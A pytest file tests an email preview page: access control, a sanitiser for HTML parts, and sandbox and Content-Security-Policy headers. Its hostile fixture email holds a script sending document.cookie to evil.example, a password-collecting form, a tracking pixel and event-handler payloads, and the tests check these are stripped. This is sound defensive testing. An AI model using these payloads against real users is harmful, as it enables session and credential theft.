"""One email as it was sent: who may open it, what it shows, and its HTML part shown so nothing in it can act."""

import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import update

from scp_tracker.mail import services
from scp_tracker.mail.models import OutboxMessage
from scp_tracker.mail.preview import safe_html

NOW = datetime(2026, 11, 27, 7, 0, tzinfo=UTC)

HOSTILE = """<!DOCTYPE html><html><head><title>Stolen</title>
<style>body { background: url(https://evil.example/css.png) }</style>
<script src="https://evil.example/x.js"></script><meta http-equiv="refresh" content="0;url=https://evil.example/">
</head><body onload="steal()">
<p style="color: #d4351c; position: fixed">Red progress</p>
<span style="color: #d4351c; background-image: url(https://evil.example/bg.png)">Tracked</span>
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
<img src="https://evil.example/pixel.gif" onerror="steal()">
<a href="javascript:steal()">Click me</a>
<a href="https://evil.example/phish" onclick="steal()" onmouseover="steal()">Update your objective</a>
<form action="https://evil.example/post"><input name="password"><button>Go</button></form>
<iframe src="https://evil.example/frame"></iframe><svg><animate onbegin="steal()"/></svg>
<object data="https://evil.example/x.swf"></object><base href="https://evil.example/">
<div style="width: expression(steal())">Layout kept</div><!-- steal() -->
</body></html>"""


@pytest.fixture
def coordinator(make_user, login):
    """A signed-in coordinator."""
    user = make_user(role="coordinator")
    login(user)
    return user


def queue(db, *, html_body=HOSTILE, status="sent", last_error=None, text_body="Dear Sam,\n\n  Line two.\nThanks"):
    """A message in the outbox with the given state, committed."""
    message = services.enqueue(to="lead@example.org", subject="Your objectives", text_body=text_body,
                               html_body=html_body, key="view:1", kind="reminder_digest", now=NOW)
    db.session.execute(update(OutboxMessage).where(OutboxMessage.id == message.id)
                       .values(status=status, last_error=last_error, attempts=1,
                               sent_at=NOW if status == "sent" else None))
    db.session.commit()
    return message


def test_anonymous_people_are_sent_to_sign_in(client, db):
    message = queue(db)
    assert client.get(f"/emails/{message.id}").status_code == 302
    assert client.get(f"/emails/{message.id}/html").status_code == 302


@pytest.mark.parametrize("role", ["lead", "partner", "viewer"])
def test_only_the_coordinator_may_open_an_email(client, db, make_user, login, role):
    message = queue(db)
    login(make_user(role=role))
    assert client.get(f"/emails/{message.id}").status_code == 403
    assert client.get(f"/emails/{message.id}/html").status_code == 403


def test_an_unknown_email_is_not_found(client, db, coordinator):
    assert client.get("/emails/999").status_code == 404
    assert client.get("/emails/999/html").status_code == 404


def test_the_list_links_each_email_to_its_page(client, db, coordinator):
    message = queue(db)
    page = client.get("/emails").get_data(as_text=True)
    assert f'href="/emails/{message.id}">Your objectives</a>' in page


def test_the_page_shows_the_email_as_it_was_sent(client, db, coordinator):
    message = queue(db)

    page = client.get(f"/emails/{message.id}").get_data(as_text=True)

    assert "<h1 class=\"govuk-heading-l\">Your objectives</h1>" in page
    assert "lead@example.org" in page and "Reminder" in page and "Sent" in page
    assert "Queued 27 November 2026 at 7am" in page and "Sent 27 November 2026 at 7am" in page
    assert "Dear Sam,\n\n  Line two.\nThanks" in page  # the text part, its lines as sent
    frame = re.search(r"<iframe[^>]*>", page).group(0)
    assert f'src="/emails/{message.id}/html"' in frame
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in frame  # no scripts, no same origin
    assert "steal()" not in page and "evil.example" not in page  # the HTML part is never inline


def test_a_failed_email_shows_its_error_and_can_be_resent(client, db, coordinator):
    message = queue(db, status="failed", last_error="550 Mailbox unavailable")
    page = client.get(f"/emails/{message.id}").get_data(as_text=True)
    assert "550 Mailbox unavailable" in page
    assert f'action="/emails/{message.id}/resend"' in page


def test_a_text_only_email_shows_its_text_and_no_frame(client, db, coordinator):
    message = queue(db, html_body=None)
    page = client.get(f"/emails/{message.id}").get_data(as_text=True)
    assert "<iframe" not in page and "Line two." in page
    assert client.get(f"/emails/{message.id}/html").status_code == 404


def test_the_html_part_keeps_the_layout_and_drops_everything_that_runs_or_loads(client, db, coordinator):
    message = queue(db)

    response = client.get(f"/emails/{message.id}/html")
    body = response.get_data(as_text=True)

    assert response.mimetype == "text/html"
    assert "Red progress" in body and 'style="color:#d4351c"' in body and "Layout kept" in body
    assert "Update your objective" in body and "Click me" in body
    assert "<span>Tracked</span>" in body  # a style that could load anything goes whole
    lowered = body.lower()
    for hostile in ("<script", "onload", "onerror", "onclick", "onmouseover", "onbegin", "javascript:", "<img",
                    "<form", "<input", "<iframe", "<object", "<svg", "<base", "<meta http-equiv", "<style",
                    "url(", "expression(", "position", "steal()", "document.cookie", "<title>stolen"):
        assert hostile not in lowered, hostile
    # The one external link stays readable and opens a new tab, without a referrer or a handle on this page.
    assert '<a href="https://evil.example/phish" target="_blank" rel="noopener noreferrer">' in body
    assert body.count("evil.example") == 1


def test_the_html_part_is_served_under_a_policy_that_lets_nothing_run_or_load(client, db, coordinator):
    message = queue(db)

    headers = client.get(f"/emails/{message.id}/html").headers

    policy = dict(part.strip().split(" ", 1) for part in headers["Content-Security-Policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["img-src"] == "'none'"
    assert "script-src" not in policy  # falls back to default-src 'none'
    assert policy["frame-ancestors"] == "'self'"
    assert policy["sandbox"] == "allow-popups allow-popups-to-escape-sandbox"
    assert headers["X-Frame-Options"] == "SAMEORIGIN"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["X-Content-Type-Options"] == "nosniff"


def test_every_other_page_still_refuses_to_be_framed(client, db, coordinator):
    message = queue(db)
    headers = client.get(f"/emails/{message.id}").headers
    assert headers["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]


@pytest.mark.parametrize("html, kept", [
    ('<table style="border-collapse: collapse"><tr><td style="padding: 4px">Cell</td></tr></table>',
     '<table style="border-collapse:collapse"><tbody><tr><td style="padding:4px">Cell</td></tr></tbody></table>'),
    ('<h2 style="font-size: 20px; margin: 24px 0 8px;">Due soon</h2>',
     '<h2 style="font-size:20px;margin:24px 0 8px">Due soon</h2>'),
    ('<a href="mailto:coordinator@example.org">Write</a>', 'href="mailto:coordinator@example.org"'),
    ('<p>Tom &amp; Jerry &lt;b&gt;</p>', '<p>Tom &amp; Jerry &lt;b&gt;</p>'),
])
def test_what_our_emails_use_survives(html, kept):
    assert kept in safe_html(html)


@pytest.mark.parametrize("template", ["reminder_digest", "notification_email", "people_invitation", "update_request"])
def test_our_own_html_email_templates_keep_their_styles(template):
    source = (Path(__file__).parents[2] / "templates" / "emails" / f"{template}.html").read_text()
    styles = re.findall(r"<(?!body)\w+[^>]*\bstyle=\"([^\"{]*)\"", source)  # the body's are the frame's own
    cleaned = safe_html(source)
    for style in styles:
        for declaration in filter(None, (d.strip() for d in style.split(";"))):
            name = declaration.split(":", 1)[0].strip()
            assert f"{name}:" in cleaned, f"{template}: {name} was stripped"
